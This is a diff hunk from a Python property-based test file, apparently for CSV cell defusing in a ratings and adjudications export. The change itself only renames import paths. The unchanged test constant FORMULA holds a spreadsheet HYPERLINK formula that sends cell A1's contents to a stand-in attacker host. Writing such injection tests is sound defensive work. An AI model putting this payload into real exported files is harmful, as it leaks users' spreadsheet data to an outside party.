@@ -8,9 +8,9 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from agreement import tables
-from release.formats import write_adjudications, write_ratings
-from release.records import Adjudication, Rating
-from web.csv_cells import defused, restored
+from bundle.formats.records import write_adjudications, write_ratings
+from bundle.records import Adjudication, Rating
+from web.tables.csv_cells import defused, restored
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 
